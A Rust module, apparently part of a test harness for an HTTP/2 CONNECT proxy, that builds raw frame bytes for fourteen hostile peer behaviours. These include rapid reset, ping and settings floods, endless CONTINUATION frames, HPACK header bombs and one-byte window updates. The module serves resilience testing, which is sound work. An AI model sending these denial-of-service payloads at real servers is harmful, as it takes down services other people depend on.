//! Hostile: what peers that mean harm send, as bytes that are made once.

use std::fmt;

/// One way to be a nuisance.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Kind {
    /// Not hostile at all: one tunnel full of bytes that are read.
    Bulk,
    RapidReset,
    Pings,
    Settings,
    EmptyData,
    Priorities,
    Continuations,
    Bombs,
    ShortTunnels,
    Crumbs,
    CrumbsUnread,
    WindowsUnread,
    WindowByTheByte,
    /// Many connections one after the other, of which nothing comes.
    Connections,
}

impl Kind {
    pub(crate) const ALL: [Self; 14] = [
        Self::Bulk,
        Self::RapidReset,
        Self::Pings,
        Self::Settings,
        Self::EmptyData,
        Self::Priorities,
        Self::Continuations,
        Self::Bombs,
        Self::ShortTunnels,
        Self::Crumbs,
        Self::CrumbsUnread,
        Self::WindowsUnread,
        Self::WindowByTheByte,
        Self::Connections,
    ];

    /// What is sent once on a connection, and what then is again and again; nothing more if that is empty.
    pub(crate) fn script(self) -> (Vec<u8>, Vec<u8>) {
        let mut begin = [PREFACE, &frame(SETTINGS, 0, 0, b"")].concat();
        let each =
            |frames: &dyn Fn(u32) -> Vec<u8>| (0..4000).flat_map(|turn| frames(2 * turn + 1)).collect();
        let open = |port| connect(1, port);
        let again: Vec<u8> = match self {
            Self::Bulk => {
                begin.extend(open(READ));
                frame(DATA, 0, 1, &[7; 16 * 1024]).repeat(16)
            }
            Self::RapidReset => each(&|stream| [connect(stream, KEEP), reset(stream)].concat()),
            Self::Pings => frame(PING, 0, 0, b"12345678").repeat(4000),
            Self::Settings => frame(SETTINGS, 0, 0, b"").repeat(4000),
            Self::EmptyData => {
                begin.extend(open(KEEP));
                frame(DATA, 0, 1, b"").repeat(4000)
            }
            Self::Priorities => each(&|stream| frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 16])),
            Self::Continuations => {
                begin.extend(frame(HEADERS, 0, 1, &fields(KEEP)));
                frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b").repeat(4000)
            }
            Self::Bombs => each(&|stream| {
                let block = [&fields(KEEP)[..], b"\x40\x01x\x7f\xa1\x1e", &[b'v'; 4000], &[0xbe; 7]].concat();
                frame(HEADERS, END_HEADERS, stream, &block)
            }),
            Self::ShortTunnels => each(&|stream| {
                [connect(stream, READ), frame(DATA, 0, stream, b"x"), frame(DATA, END_STREAM, stream, b"")]
                    .concat()
            }),
            Self::Crumbs => {
                begin.extend(open(READ));
                frame(DATA, 0, 1, b"x").repeat(4000)
            }
            Self::CrumbsUnread => {
                begin.extend(open(KEEP));
                frame(DATA, 0, 1, b"x").repeat(100_000)
            }
            Self::WindowsUnread => (0..200)
                .flat_map(|turn| {
                    [connect(2 * turn + 1, KEEP), frame(DATA, 0, 2 * turn + 1, &[7; 2500])].concat()
                })
                .collect(),
            Self::WindowByTheByte => {
                begin.extend(frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]));
                begin.extend(open(POUR));
                frame(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1]).repeat(4000)
            }
            Self::Connections => Vec::new(),
        };
        (begin, again)
    }

    /// Whether the end of what is sent again and again is the end of the connection.
    pub(crate) fn is_done_after_once(self) -> bool {
        !matches!(self, Self::Bulk | Self::Crumbs | Self::Pings | Self::Settings)
    }
}

impl fmt::Display for Kind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.pad(match self {
            Self::Bulk => "bulk, which is not hostile",
            Self::RapidReset => "requests taken back",
            Self::Pings => "pings",
            Self::Settings => "settings",
            Self::EmptyData => "empty frames",
            Self::Priorities => "priorities",
            Self::Continuations => "headers without end",
            Self::Bombs => "headers too large",
            Self::ShortTunnels => "short tunnels",
            Self::Crumbs => "a byte a frame",
            Self::CrumbsUnread => "a byte a frame, unread",
            Self::WindowsUnread => "200 streams, unread",
            Self::WindowByTheByte => "room given by the byte",
            Self::Connections => "connections, nothing else",
        })
    }
}

/// The ports of targets whose tunnels are not read, are read, and are written to.
pub(crate) const KEEP: u16 = 8080;
/// See [`KEEP`].
pub(crate) const READ: u16 = 8081;
/// See [`KEEP`].
pub(crate) const POUR: u16 = 8082;

fn connect(stream: u32, port: u16) -> Vec<u8> {
    frame(HEADERS, END_HEADERS, stream, &fields(port))
}

/// CONNECT to 10.0.0.5: literals without indexing, names of the static table (RFC 7541 section 6.2.2).
fn fields(port: u16) -> Vec<u8> {
    [b"\x02\x07CONNECT\x01\x0d10.0.0.5:", port.to_string().as_bytes()].concat()
}

fn reset(stream: u32) -> Vec<u8> {
    frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())
}

/// RFC 9113 section 4.1.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend_from_slice(&stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

// Frame types, RFC 9113 section 6.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

// Flags, RFC 9113 section 6.
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
